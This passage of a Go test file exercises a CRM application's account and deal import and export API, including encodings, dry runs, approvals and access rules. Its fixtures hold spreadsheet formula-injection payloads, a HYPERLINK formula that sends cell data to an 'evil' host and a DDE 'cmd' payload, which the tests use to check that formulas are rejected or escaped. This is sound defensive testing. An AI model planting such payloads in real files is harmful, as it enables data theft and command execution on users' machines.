package api_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"mime/multipart"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"
	"golang.org/x/text/encoding/unicode"

	"github.com/kamflow/kamflow"
	"github.com/kamflow/kamflow/api"
	"github.com/kamflow/kamflow/db"
	"github.com/kamflow/kamflow/db/dbtest"
	"github.com/kamflow/kamflow/sheet"
	"github.com/kamflow/kamflow/sheet/sheettest"
)

// multipartFile is a multipart/form-data body with the file in the part named file.
func multipartFile(name string, data []byte) (body, contentType string) {
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	w.WriteField("note", "ignored")
	fw, _ := w.CreateFormFile("file", name)
	fw.Write(data)
	w.Close()
	return b.String(), w.FormDataContentType()
}

// upload posts a file to /api/v1/imports?query as the user.
func (e *testEnv) upload(as, query, name string, data []byte) *response {
	body, ct := multipartFile(name, data)
	res := e.serve(request{method: "POST", path: "/api/v1/imports?" + query, as: as, body: body,
		headers: map[string]string{"Content-Type": ct}})
	if err := api.CheckOpenAPI("POST", "/api/v1/imports", nil, res.status, res.body); err != nil {
		e.t.Errorf("upload: %v", err)
	}
	return res
}

// get reads a path as the user, checks the answer against the OpenAPI document and returns it.
func (e *testEnv) get(t *testing.T, as, path string, want int) *response {
	t.Helper()
	res := e.serve(request{method: "GET", path: path, as: as})
	if res.status != want {
		t.Fatalf("GET %s as %s: %d, want %d: %.500s", path, as, res.status, want, res.body)
	}
	if err := api.CheckOpenAPI("GET", path, nil, res.status, res.body); err != nil {
		t.Error(err)
	}
	return res
}

// post sends a JSON body as the user, checks the status and the answer against the OpenAPI
// document, and returns it.
func (e *testEnv) post(t *testing.T, as, path, body string, want int) *response {
	t.Helper()
	res := e.serve(request{method: "POST", path: path, as: as, body: body})
	if res.status != want {
		t.Fatalf("POST %s as %s: %d, want %d: %.500s", path, as, res.status, want, res.body)
	}
	if err := api.CheckOpenAPI("POST", path, []byte(body), res.status, res.body); err != nil {
		t.Error(err)
	}
	return res
}

func gbk(t *testing.T, s string) []byte {
	t.Helper()
	b, err := simplifiedchinese.GBK.NewEncoder().Bytes([]byte(s))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// report is an import's answer: counts and issues, for exact comparison.
type report struct {
	ID          string `json:"id"`
	Kind        string `json:"kind"`
	DryRun      bool   `json:"dry_run"`
	Status      string `json:"status"`
	Format      string `json:"format"`
	Encoding    string `json:"encoding"`
	Total       int    `json:"total"`
	Processed   int    `json:"processed"`
	Imported    int    `json:"imported"`
	Skipped     int    `json:"skipped"`
	Rejected    int    `json:"rejected"`
	Held        int    `json:"held"`
	NotImported int    `json:"not_imported"`
	Error       string `json:"error"`
	Approval    *struct {
		Decision string `json:"decision"`
		By       string `json:"by"`
		Reason   string `json:"reason"`
	} `json:"approval"`
	Truncated bool `json:"issues_truncated"`
	Issues    []struct {
		Line     int    `json:"line"`
		Column   string `json:"column"`
		Field    string `json:"field"`
		Code     string `json:"code"`
		Message  string `json:"message"`
		Outcome  string `json:"outcome"`
		EntityID string `json:"entity_id"`
	} `json:"issues"`
}

func decodeReport(t testing.TB, res *response) report {
	t.Helper()
	var r report
	if err := json.Unmarshal(res.body, &r); err != nil {
		t.Fatalf("%v: %s", err, res.body)
	}
	return r
}

// counts renders a report's head: status and counts.
func (r report) counts() string {
	s := fmt.Sprintf("%s dry_run=%v total=%d processed=%d imported=%d skipped=%d rejected=%d", r.Status, r.DryRun, r.Total,
		r.Processed, r.Imported, r.Skipped, r.Rejected)
	if r.Held != 0 {
		s += fmt.Sprintf(" held=%d", r.Held)
	}
	if r.NotImported != 0 {
		s += fmt.Sprintf(" not_imported=%d", r.NotImported)
	}
	if r.Error != "" {
		s += " error=" + r.Error
	}
	return s
}

// issues renders a report's issues one a line: line, outcome, column (field), code, message.
func (r report) issues() string {
	var b strings.Builder
	for _, is := range r.Issues {
		fmt.Fprintf(&b, "%d %s %s (%s) %s: %s\n", is.Line, is.Outcome, is.Column, is.Field, is.Code, is.Message)
	}
	return b.String()
}

func sameText(t *testing.T, what, got, want string) {
	t.Helper()
	if got != want {
		t.Errorf("%s:\n%s\nwant:\n%s", what, got, want)
	}
}

// accountsFile is a GBK-encoded CSV of accounts, as Excel on a Chinese Windows saves one, with
// Chinese heads and a problem on most rows.
const accountsFile = "客户编号,客户名称,行业,地区,负责人,备注\r\n" +
	"C001,华东石化,石化,上海,kam2,\r\n" + // 2: imported, owned by kam2
	"C002,北方重工,机械,辽宁,,\"多行\n备注\"\r\n" + // 3–4: imported, owned by the importer
	"C003,\"=HYPERLINK(\"\"http://evil/?x=\"\"&A1)\",石化,上海,,\r\n" + // 5: a formula
	"C004,华东石化,化工,江苏,,\r\n" + // 6: line 2 again
	"C005,南方电力,电力,广东,kam3,\r\n" + // 7: kam3 is of another team
	"C006,已有客户,钢铁,江苏,,\r\n" + // 8: created by hand before
	"\r\n" + // 9: blank
	"C007,西部钢铁,钢铁,四川,,-see mail\r\n" + // 10: a formula in the notes
	"C008,Ｅａｓｔ Ｓｔｅｅｌ,steel,,,,extra\r\n" + // 11: a value beyond the heads
	"C009,WEST  STEEL,steel,,nobody,\r\n" + // 12: no such user … but also:
	"C010,west steel,steel,,,\r\n" + // 13: imported (line 12 was rejected)
	"C011,West Steel,steel,,,@SUM(A1)\r\n" // 14: line 13 again (case and spaces folded), and a formula

func TestImportAccounts(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		e := newEnv(t, d)
		existing := e.must(201, "POST", "/api/v1/accounts", "kam1", `{"name":"已有客户"}`)["id"].(string)
		file := gbk(t, accountsFile)

		// The dry run reports every row and writes nothing but its report.
		res := e.upload("kam1", "kind=accounts&dry_run=true", "客户.csv", file)
		if res.status != http.StatusCreated {
			t.Fatalf("dry run: %d %s", res.status, res.body)
		}
		dry := decodeReport(t, res)
		sameText(t, "dry run", dry.counts(), "done dry_run=true total=11 processed=11 imported=3 skipped=1 rejected=7")
		if dry.Format != "csv" || dry.Encoding != "gb18030" || dry.Kind != "accounts" {
			t.Errorf("format %s, encoding %s, kind %s", dry.Format, dry.Encoding, dry.Kind)
		}
		wantIssues := `5 rejected 客户名称 (name) formula: "=HYPERLINK(\"http://evil/?x=\"&A1)" starts like a spreadsheet formula (= + - @); kamflow does not store formulas: remove the leading character
6 rejected 客户名称 (name) duplicate: the same account as line 2 (华东石化)
7 rejected 负责人 (owner) unknown_owner: kam3 is not a KAM of the team
8 skipped 客户名称 (name) exists: an account named 已有客户 is already in kamflow
10 rejected 备注 (notes) formula: "-see mail" starts like a spreadsheet formula (= + - @); kamflow does not store formulas: remove the leading character
11 rejected column G () extra_cells: a value (extra) in a column without a head
12 rejected 负责人 (owner) unknown_owner: nobody is not a KAM of the team
14 rejected 客户名称 (name) duplicate: the same account as line 13 (West Steel)
14 rejected 备注 (notes) formula: "@SUM(A1)" starts like a spreadsheet formula (= + - @); kamflow does not store formulas: remove the leading character
`
		sameText(t, "dry run issues", dry.issues(), wantIssues)
		if dry.Issues[3].EntityID != existing {
			t.Errorf("line 8 matched %q, want %s", dry.Issues[3].EntityID, existing)
		}
		if list := e.must(200, "GET", "/api/v1/accounts", "kam1", ""); list["total"].(float64) != 1 {
			t.Fatalf("the dry run created accounts: %v", list)
		}
		// Its report reads back the same.
		again := decodeReport(t, e.get(t, "kam1", "/api/v1/imports/"+dry.ID, 200))
		sameText(t, "dry run read back", again.counts()+"\n"+again.issues(), dry.counts()+"\n"+dry.issues())

		// The real run answers at once with the rows it will not import; then the rows commit.
		// (The run is held before it commits, so that its first answer is the same every time.)
		release := e.holdImports()
		res = e.upload("kam1", "kind=accounts&dry_run=false", "客户.csv", file)
		if res.status != http.StatusCreated || res.header.Get("Location") == "" {
			t.Fatalf("real run: %d %s", res.status, res.body)
		}
		run := decodeReport(t, res)
		sameText(t, "real run at once", run.counts(), "running dry_run=false total=11 processed=8 imported=0 skipped=1 rejected=7")
		release()
		e.waitImports()
		done := decodeReport(t, e.get(t, "kam1", res.header.Get("Location"), 200))
		sameText(t, "real run", done.counts(), "done dry_run=false total=11 processed=11 imported=3 skipped=1 rejected=7")
		sameText(t, "real run issues", done.issues(), wantIssues)
		accounts := e.must(200, "GET", "/api/v1/accounts?limit=200", "kam1", "")["items"].([]any)
		var got []string
		for _, a := range accounts {
			m := a.(map[string]any)
			got = append(got, fmt.Sprintf("%s/%s/%s/%v/%q", m["name"], m["owner"], m["team_id"], nilEmpty(m["industry"]), fmt.Sprint(nilEmpty(m["notes"]))))
		}
		sameText(t, "accounts", strings.Join(got, "\n"), `west steel/kam1/east/steel/""
北方重工/kam1/east/机械/"多行\n备注"
华东石化/kam2/east/石化/""
已有客户/kam1/east//""`)

		// The rejected rows as a file: line and reasons, then the row as it was.
		rej := e.get(t, "kam1", "/api/v1/imports/"+done.ID+"/rejected?lang=zh-CN", 200)
		if ct := rej.header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
			t.Errorf("Content-Type %s", ct)
		}
		sameText(t, "rejected file", string(rej.body), "\ufeff导入行号,导入问题,客户编号,客户名称,行业,地区,负责人,备注\r\n"+
			`5,"客户名称: ""=HYPERLINK(\""http://evil/?x=\""&A1)"" starts like a spreadsheet formula (= + - @); kamflow does not store formulas: remove the leading character",C003,"'=HYPERLINK(""http://evil/?x=""&A1)",石化,上海,,`+"\r\n"+
			"6,客户名称: the same account as line 2 (华东石化),C004,华东石化,化工,江苏,,\r\n"+
			"7,负责人: kam3 is not a KAM of the team,C005,南方电力,电力,广东,kam3,\r\n"+
			`10,"备注: ""-see mail"" starts like a spreadsheet formula (= + - @); kamflow does not store formulas: remove the leading character",C007,西部钢铁,钢铁,四川,,'-see mail`+"\r\n"+
			"11,column G: a value (extra) in a column without a head,C008,Ｅａｓｔ Ｓｔｅｅｌ,steel,,,,extra\r\n"+
			"12,负责人: nobody is not a KAM of the team,C009,WEST  STEEL,steel,,nobody,\r\n"+
			`14,"客户名称: the same account as line 13 (West Steel); 备注: ""@SUM(A1)"" starts like a spreadsheet formula (= + - @); kamflow does not store formulas: remove the leading character",C011,West Steel,steel,,,'@SUM(A1)`+"\r\n")

		// Running the same file again creates nothing: the imported rows are skipped now.
		res = e.upload("kam1", "kind=accounts&dry_run=false", "客户.csv", file)
		e.waitImports()
		rerun := decodeReport(t, e.get(t, "kam1", res.header.Get("Location"), 200))
		sameText(t, "re-run", rerun.counts(), "done dry_run=false total=11 processed=11 imported=0 skipped=4 rejected=7")
		sameText(t, "re-run skips", strings.Join(filterLines(rerun.issues(), "skipped"), "\n"), strings.Join([]string{
			"2 skipped 客户名称 (name) exists: account 华东石化 is already in kamflow",
			"3 skipped 客户名称 (name) exists: account 北方重工 is already in kamflow",
			"8 skipped 客户名称 (name) exists: an account named 已有客户 is already in kamflow",
			"13 skipped 客户名称 (name) exists: account west steel is already in kamflow",
		}, "\n"))
		if n := e.must(200, "GET", "/api/v1/accounts", "kam1", "")["total"].(float64); n != 4 {
			t.Errorf("%v accounts after the re-run, want 4", n)
		}
		// Each imported account's creation is on the audit trail, and each run.
		entries, _, err := d.Audit(context.Background(), kamflow.AuditFilter{EntityType: "import"})
		if err != nil || len(entries) != 2 || entries[1].Summary != "accounts imported from 客户.csv: 3 of 11 rows imported, 1 skipped as present, 7 rejected" {
			t.Errorf("audit of the runs: %+v %v", entries, err)
		}
	})
}

func filterLines(s, word string) []string {
	var out []string
	for _, l := range strings.Split(s, "\n") {
		if strings.Contains(l, " "+word+" ") {
			out = append(out, l)
		}
	}
	return out
}

// TestImportFileErrors: a file that cannot be read at all is refused whole, with the reason.
func TestImportFileErrors(t *testing.T) {
	e := newEnv(t, dbtest.SQLite(t))
	huge := bytes.Repeat([]byte("x"), kamflow.MaxImportBytes+1)
	var many bytes.Buffer
	many.WriteString("name\n")
	for i := range kamflow.MaxImportRows + 1 {
		fmt.Fprintf(&many, "a%d\n", i)
	}
	for _, c := range []struct {
		name, query, file string
		data              []byte
		status            int
		want              string // code, reason and message
	}{
		{"GBK garbage", "kind=accounts", "a.csv", []byte("客户名称\n\x81\x30\x81\n"), 400,
			"invalid bad_encoding: the file's text cannot be read (line 2): it is neither UTF-8 nor GBK/GB18030; save it as CSV UTF-8 or as .xlsx"},
		{"wrong columns", "kind=accounts", "a.csv", []byte("name,industy,phone\nACME,steel,1\n"), 400,
			"invalid unknown_columns: the file has columns kamflow does not know: industy, phone (the accounts template lists the columns)"},
		{"no name column", "kind=accounts", "a.csv", []byte("行业,地区\n钢铁,江苏\n"), 400,
			"invalid missing_columns: the file lacks required columns: name (客户名称)"},
		{"deals without account", "kind=deals", "d.csv", []byte("title,value,stage\nPumps,1,bid\n"), 400,
			"invalid missing_columns: the file lacks required columns: account (客户名称) or account_id (客户编号)"},
		{"two name columns", "kind=accounts", "a.csv", []byte("name,客户名称\nA,B\n"), 400,
			"invalid duplicate_columns: the file has two columns for one field: 客户名称"},
		{"empty", "kind=accounts", "a.csv", []byte("\ufeff"), 400,
			"invalid empty: the file is empty: it needs a head row and rows under it"},
		{"xls", "kind=accounts", "a.xls", append([]byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, make([]byte, 64)...), 400,
			"invalid unsupported_format: this is an Excel 97–2003 (.xls) or password-protected workbook: save it as .xlsx (without a password) or as CSV"},
		{"huge", "kind=accounts", "a.csv", huge, 413,
			"too_large too_large: the file is larger than 20 MiB: split it into several files"},
		{"too many rows", "kind=accounts", "a.csv", many.Bytes(), 413,
			"too_large too_many_rows: the file has more than 100000 rows: split it into several files"},
		{"no kind", "", "a.csv", []byte("name\nA\n"), 400, "invalid : kind \"\" must be one of accounts, contacts, deals"},
		{"bad dry_run", "kind=accounts&dry_run=perhaps", "a.csv", []byte("name\nA\n"), 400, "invalid : dry_run must be true or false"},
		{"not my team", "kind=accounts&team=west", "a.csv", []byte("name\nA\n"), 400, "invalid : team \"west\" is not one of yours"},
	} {
		t.Run(c.name, func(t *testing.T) {
			res := e.upload("kam1", c.query, c.file, c.data)
			code, _ := lookup(res.json, "error.code")
			reason, _ := lookup(res.json, "error.details.reason")
			msg, _ := lookup(res.json, "error.message")
			got := fmt.Sprintf("%v %v: %v", code, nilEmpty(reason), msg)
			if res.status != c.status || got != c.want {
				t.Errorf("%d %s\nwant %d %s", res.status, got, c.status, c.want)
			}
		})
	}
	// Not a multipart body at all.
	res := e.serve(request{method: "POST", path: "/api/v1/imports?kind=accounts", as: "kam1", body: `{"file":"x"}`})
	if msg, _ := lookup(res.json, "error.message"); res.status != 400 || msg != "send the file as multipart/form-data, in a part named file" {
		t.Errorf("JSON body: %d %s", res.status, res.body)
	}
	// A body declared larger than the limit is refused before it is read.
	body, ct := multipartFile("a.csv", []byte("name\nA\n"))
	req := request{method: "POST", path: "/api/v1/imports?kind=accounts", as: "kam1", body: body, headers: map[string]string{"Content-Type": ct}}
	if res := e.serve(req); res.status != 201 {
		t.Errorf("a small file: %d %s", res.status, res.body)
	}
	// The other routes keep the API's 1 MiB limit.
	res = e.serve(request{method: "POST", path: "/api/v1/accounts", as: "kam1", body: `{"name":"` + strings.Repeat("x", 1<<20) + `"}`})
	if msg, _ := lookup(res.json, "error.message"); res.status != 413 || msg != "request body is larger than 1MiB" {
		t.Errorf("a large JSON body: %d %.200s", res.status, res.body)
	}
}

func nilEmpty(v any) any {
	if v == nil {
		return ""
	}
	return v
}

// dealsWorkbook builds an XLSX file of deals with typed cells: amounts as numbers, dates as Excel
// dates, stages in Chinese.
func dealsWorkbook(t *testing.T, rows [][]any) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	date, _ := f.NewStyle(&excelize.Style{NumFmt: 14})
	for i, r := range rows {
		for j, v := range r {
			cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if v == nil {
				continue
			}
			if tm, ok := v.(time.Time); ok {
				f.SetCellValue("Sheet1", cell, tm)
				f.SetCellStyle("Sheet1", cell, cell, date)
				continue
			}
			f.SetCellValue("Sheet1", cell, v)
		}
	}
	var b bytes.Buffer
	if err := f.Write(&b); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestImportDeals(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		e := newEnv(t, d)
		accounts := "external_id,name\nCRM-1,华东石化\nCRM-2,北方重工\n"
		res := e.upload("kam1", "kind=accounts&dry_run=false", "accounts.csv", []byte(accounts))
		e.waitImports()
		if r := decodeReport(t, e.get(t, "kam1", res.header.Get("Location"), 200)); r.Imported != 2 {
			t.Fatalf("accounts: %s", r.counts())
		}
		byHand := e.must(201, "POST", "/api/v1/accounts", "kam1", `{"name":"Manual Co"}`)["id"].(string)
		e.must(201, "POST", "/api/v1/deals", "kam1", `{"account_id":"`+byHand+`","title":"Valves","value":"1.00","currency":"CNY"}`)

		close := time.Date(2027, 3, 31, 0, 0, 0, 0, time.UTC)
		file := dealsWorkbook(t, [][]any{
			{"商机编号", "客户编号", "客户名称", "商机名称", "金额", "币种", "预计成交日期", "负责人", "阶段", "状态"},
			{"D-1", "CRM-1", nil, "Boiler feed pumps", 12000000.5, "人民币", close, "kam2", "投标阶段", "进行中"}, // 2: imported at bid
			{"D-2", nil, "北方重工", "DCS retrofit", "1200万", nil, "2027/6/30", nil, "entry", nil},          // 3: imported at entry
			{"D-3", "CRM-9", nil, "Ghost", 1, nil, nil, nil, "bid", nil},                                // 4: no such account
			{"D-4", "CRM-1", nil, "Lost one", 1, nil, nil, nil, "谈判", "丢单"},                             // 5: not open
			{"D-5", "CRM-1", nil, "Won one", 1, nil, nil, nil, "交付", nil},                               // 6: in delivery
			{"D-6", "CRM-2", nil, "Bad", "12,3", "dollars", "31/03/2027", "kam3", "closing", nil},       // 7: everything wrong
			{"D-1", "CRM-2", nil, "Again", 5, nil, nil, nil, "bid", nil},                                // 8: line 2's id
			{nil, nil, "Manual Co", "valves", 3, nil, nil, nil, "proposal", nil},                        // 9: present (by hand)
			{nil, nil, "Manual Co", "Gauges", -4, nil, nil, nil, "proposal", nil},                       // 10: negative
			{nil, nil, "Manual Co", "Gauges", 4.125, nil, 46477, nil, "development", nil},               // 11: three decimals
			{nil, nil, "Manual Co", "=1+1", 4, nil, nil, nil, "development", nil},                       // 12: a formula
		})
		res = e.upload("kam1", "kind=deals&dry_run=true", "商机.xlsx", file)
		dry := decodeReport(t, res)
		sameText(t, "dry run", dry.counts(), "done dry_run=true total=11 processed=9 imported=0 skipped=1 rejected=8 held=2")
		if dry.Format != "xlsx" || dry.Encoding != "" {
			t.Errorf("format %s encoding %q", dry.Format, dry.Encoding)
		}
		// kam1's deals past development wait for a director of the team.
		want := `2 held 阶段 (stage) needs_approval: Boiler feed pumps is at the bid stage, past development: its key nodes before (assessment, bid, margin approval) count as passed, so a sales director of the team approves its import
3 held 阶段 (stage) needs_approval: DCS retrofit is at the entry stage, past development: its key nodes before (assessment, bid, margin approval) count as passed, so a sales director of the team approves its import
4 rejected 客户编号 (account_id) unknown_account: no account CRM-9 in the team: import the accounts first
5 rejected 状态 (status) not_open: the deal is lost: only open deals are imported
6 rejected 阶段 (stage) not_open: a deal in delivery has its contract signed: only open deals (development to negotiation) are imported
7 rejected 金额 (value) bad_money: "12,3" is not an amount like 1200000.00
7 rejected 币种 (currency) bad_currency: "dollars" is not a currency code such as CNY or USD
7 rejected 预计成交日期 (expected_close) bad_date: "31/03/2027" is not a date: write it as YYYY-MM-DD
7 rejected 负责人 (owner) unknown_owner: kam3 is not a KAM of the team
7 rejected 阶段 (stage) unknown_stage: "closing" is not a stage (development, entry, proposal, bid, negotiation, or 开发阶段 …)
8 rejected 商机编号 (external_id) duplicate: the same deal as line 2 (external id D-1)
9 skipped 商机名称 (title) exists: a deal Valves on Manual Co is already in kamflow
10 rejected 金额 (value) bad_money: "-4" is negative
11 rejected 金额 (value) bad_money: "4.125" has more than two decimals
12 rejected 商机名称 (title) formula: "=1+1" starts like a spreadsheet formula (= + - @); kamflow does not store formulas: remove the leading character
`
		sameText(t, "dry run issues", dry.issues(), want)

		res = e.upload("kam1", "kind=deals&dry_run=false", "商机.xlsx", file)
		e.waitImports()
		held := decodeReport(t, e.get(t, "kam1", res.header.Get("Location"), 200))
		sameText(t, "real run", held.counts(), "awaiting_approval dry_run=false total=11 processed=9 imported=0 skipped=1 rejected=8 held=2")
		release := e.holdImports() // the approved run answers planned, before it commits
		approved := decodeReport(t, e.post(t, "d1", res.header.Get("Location")+"/approve", `{"reason":"Both were assessed in the old CRM"}`, 200))
		if approved.Status != "running" || approved.Approval == nil || approved.Approval.By != "d1" || approved.Approval.Decision != "approved" {
			t.Errorf("approved: %s %+v", approved.counts(), approved.Approval)
		}
		release()
		e.waitImports()
		done := decodeReport(t, e.get(t, "kam1", res.header.Get("Location"), 200))
		sameText(t, "approved run", done.counts(), "done dry_run=false total=11 processed=11 imported=2 skipped=1 rejected=8")

		// The deals run at their stages, marked imported; the gates before count as passed.
		list := e.must(200, "GET", "/api/v1/deals?limit=200", "kam1", "")["items"].([]any)
		var bid, entry string
		for _, it := range list {
			m := it.(map[string]any)
			switch m["title"] {
			case "Boiler feed pumps":
				bid = m["id"].(string)
			case "DCS retrofit":
				entry = m["id"].(string)
			}
		}
		deal := e.must(200, "GET", "/api/v1/deals/"+bid, "kam2", "")
		if deal["stage"] != "bid" || deal["status"] != "open" || deal["value"] != "12000000.50" || deal["expected_close"] != "2027-03-31" ||
			deal["owner"] != "kam2" || deal["team_id"] != "east" {
			t.Errorf("imported deal: %v", deal)
		}
		if m, _ := deal["imported"].(map[string]any); m["stage"] != "bid" || m["import_id"] != done.ID || m["line"] != float64(2) || m["by"] != "kam1" || m["approved_by"] != "d1" {
			t.Errorf("imported marker: %v", deal["imported"])
		}
		if err := api.CheckOpenAPI("GET", "/api/v1/deals/"+bid, nil, 200, mustJSON(deal)); err != nil {
			t.Error(err)
		}
		hist := e.must(200, "GET", "/api/v1/deals/"+bid+"/history", "kam1", "")["items"].([]any)
		if h := hist[0].(map[string]any); len(hist) != 1 || h["kind"] != "imported" || h["to_stage"] != "bid" || h["actor"] != "kam1" {
			t.Errorf("history: %v", hist)
		}
		stored, err := d.Deal(context.Background(), bid)
		if err != nil {
			t.Fatal(err)
		}
		for _, st := range []kamflow.Stage{kamflow.Development, kamflow.Entry, kamflow.Proposal} {
			if g := stored.GateOf(st); !g.Met || g.Items[0].Detail != kamflow.ImportedEvidence {
				t.Errorf("gate of %s: %+v", st, g)
			}
		}
		if g := stored.Gate(); g.Met {
			t.Errorf("the bid gate is met without a bid: %+v", g)
		}
		if deal := e.must(200, "GET", "/api/v1/deals/"+entry, "kam1", ""); deal["value"] != "12000000.00" || deal["expected_close"] != "2027-06-30" || deal["owner"] != "kam1" {
			t.Errorf("entry deal: %v", deal)
		}
		// The deal goes on from its stage: the bid's evidence moves it to negotiation.
		e.must(200, "PUT", "/api/v1/deals/"+bid+"/bid", "kam2", `{"cost":"9000000.00","price":"12000000.00","submitted":true}`)
		if d := e.must(200, "POST", "/api/v1/deals/"+bid+"/advance", "kam2", ""); d["stage"] != "negotiation" {
			t.Errorf("advance: %v", d["stage"])
		}

		// Again: nothing new.
		res = e.upload("kam1", "kind=deals&dry_run=false", "商机.xlsx", file)
		e.waitImports()
		rerun := decodeReport(t, e.get(t, "kam1", res.header.Get("Location"), 200))
		sameText(t, "re-run", rerun.counts(), "done dry_run=false total=11 processed=11 imported=0 skipped=3 rejected=8")
		if n := e.must(200, "GET", "/api/v1/deals", "kam1", "")["total"].(float64); n != 3 {
			t.Errorf("%v deals, want 3", n)
		}
	})
}

func mustJSON(v any) []byte {
	b, _ := json.Marshal(v)
	return b
}

// TestExportRoundTrip exports what a user may see, as CSV and XLSX in both languages, and
// imports it again in a dry run: every row is present already.
func TestExportRoundTrip(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		e := newEnv(t, d)
		e.upload("kam1", "kind=accounts&dry_run=false", "accounts.csv",
			[]byte("name,industry,notes\n华东石化,石化,\"两行\n备注\"\nACME,steel,+86 21 5555 1234\n"))
		e.waitImports()
		acc := e.must(201, "POST", "/api/v1/accounts", "kam2", `{"name":"=cmd|' /C calc'!A0","region":"Jiangsu"}`)["id"].(string)
		deal := e.must(201, "POST", "/api/v1/deals", "kam1", `{"account_id":"`+acc+`","title":"Pumps","value":"2500000.00","currency":"CNY","expected_close":"2027-03-31"}`)["id"].(string)
		e.must(200, "PUT", "/api/v1/deals/"+deal+"/engineers", "kam1", `{"engineers":["e1"]}`)
		e.must(201, "POST", "/api/v1/accounts", "kam3", `{"name":"West only"}`)
		e.upload("d1", "kind=deals&dry_run=false", "deals.csv", []byte("account,title,value,stage,owner\n华东石化,Boiler,100,bid,kam1\n"))
		e.waitImports()

		csvAccounts := e.get(t, "kam1", "/api/v1/exports/accounts?format=csv", 200)
		lines := strings.Split(strings.TrimSuffix(string(csvAccounts.body), "\r\n"), "\r\n")
		if len(lines) != 5 || lines[0] != "\ufeffid,name,industry,region,address,owner,team_id,notes,created_at,updated_at" ||
			lines[1] != acc+",'=cmd|' /C calc'!A0,,Jiangsu,,kam2,east,,2026-03-02T09:00:00Z,2026-03-02T09:00:00Z" ||
			!strings.HasSuffix(lines[2], ",ACME,steel,,,kam1,east,'+86 21 5555 1234,2026-03-02T09:00:00Z,2026-03-02T09:00:00Z") ||
			!strings.HasSuffix(lines[3], `,华东石化,石化,,,kam1,east,"两行`) || lines[4] != `备注",2026-03-02T09:00:00Z,2026-03-02T09:00:00Z` {
			t.Errorf("accounts CSV:\n%q", lines)
		}
		if h := csvAccounts.header.Get("Content-Disposition"); h != `attachment; filename="kamflow-accounts-2026-03-02.csv"` {
			t.Errorf("Content-Disposition %s", h)
		}
		for _, q := range []string{"format=csv", "format=xlsx", "format=csv&lang=zh-CN", "format=xlsx&lang=zh-CN"} {
			for _, kind := range []string{"accounts", "deals"} {
				out := e.get(t, "kam1", "/api/v1/exports/"+kind+"?"+q, 200)
				res := e.upload("kam1", "kind="+kind+"&dry_run=true", "export."+strings.TrimPrefix(strings.Split(q, "&")[0], "format="), out.body)
				r := decodeReport(t, res)
				want := map[string]int{"accounts": 3, "deals": 2}[kind]
				if res.status != 201 || r.Total != want || r.Skipped != want || r.Imported != 0 || r.Rejected != 0 {
					t.Errorf("%s %s: %d %s\n%s", kind, q, res.status, r.counts(), r.issues())
				}
			}
		}
		// XLSX cells are typed: the deal's value is a number with two decimals, its close a date.
		x := e.get(t, "kam1", "/api/v1/exports/deals?format=xlsx", 200)
		if ct := x.header.Get("Content-Type"); ct != "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" {
			t.Errorf("Content-Type %s", ct)
		}
		f, err := sheet.Read(x.body, "x.xlsx", 10)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range f.Rows[1:] {
			if r.Cells[0] == deal && (r.Cells[4] != "2500000" || r.Cells[6] != "46477" || r.Cells[2] != "=cmd|' /C calc'!A0") {
				t.Errorf("XLSX deal row %q", r.Cells)
			}
		}

		// Everything a user may see, and nothing else.
		count := func(as, kind string) int {
			out := e.get(t, as, "/api/v1/exports/"+kind, 200)
			f, err := sheet.Read(out.body, "x.csv", 100)
			if err != nil {
				t.Fatal(err)
			}
			return len(f.Rows) - 1
		}
		for _, c := range []struct {
			as              string
			accounts, deals int
		}{{"kam1", 3, 2}, {"kam2", 3, 2}, {"d1", 3, 2}, {"kam3", 1, 0}, {"d2", 1, 0}, {"e1", 1, 1}, {"e2", 0, 0}} {
			if a, dl := count(c.as, "accounts"), count(c.as, "deals"); a != c.accounts || dl != c.deals {
				t.Errorf("%s exports %d accounts and %d deals, want %d and %d", c.as, a, dl, c.accounts, c.deals)
			}
		}
		e.get(t, "admin", "/api/v1/exports/accounts", 403)
		e.get(t, "kam1", "/api/v1/exports/users", 404)
		e.get(t, "kam1", "/api/v1/exports/accounts?format=pdf", 400)
	})
}

// TestImportVisibility: an import's report and rejected rows are its user's, its team's
// directors' and the admins'.
func TestImportVisibility(t *testing.T) {
	e := newEnv(t, dbtest.SQLite(t))
	id := decodeReport(t, e.upload("kam1", "kind=accounts", "a.csv", []byte("name,owner\nA,kam3\n"))).ID
	for as, want := range map[string]int{"kam1": 200, "d1": 200, "admin": 200, "kam2": 404, "kam3": 404, "d2": 404, "e1": 403} {
		e.get(t, as, "/api/v1/imports/"+id, want)
		e.get(t, as, "/api/v1/imports/"+id+"/rejected?format=xlsx", want)
	}
	for as, want := range map[string]int{"kam1": 1, "d1": 1, "admin": 1, "kam2": 0, "d2": 0} {
		if items := e.must(200, "GET", "/api/v1/imports", as, "")["items"].([]any); len(items) != want {
			t.Errorf("%s lists %d imports, want %d", as, len(items), want)
		}
	}
	// The template, with the required heads marked.
	tpl := e.get(t, "kam1", "/api/v1/imports/template?kind=deals&lang=zh-CN", 200)
	sameText(t, "template", string(tpl.body), "\ufeff外部编号,客户编号,客户名称,商机名称*,金额*,币种,预计成交日期,负责人,阶段*,状态\r\n")
}

// TestImportContacts reads a UTF-16 file of contacts (as Excel's "Unicode text" saves one): the
// same person twice is a duplicate, a namesake with another mobile is another person.
func TestImportContacts(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		e := newEnv(t, d)
		e.upload("kam1", "kind=accounts&dry_run=false", "a.csv", []byte("external_id,name\nCRM-1,华东石化\nCRM-2,北方重工\n"))
		e.waitImports()
		acc := e.must(200, "GET", "/api/v1/accounts?q=华东", "kam1", "")["items"].([]any)[0].(map[string]any)["id"].(string)
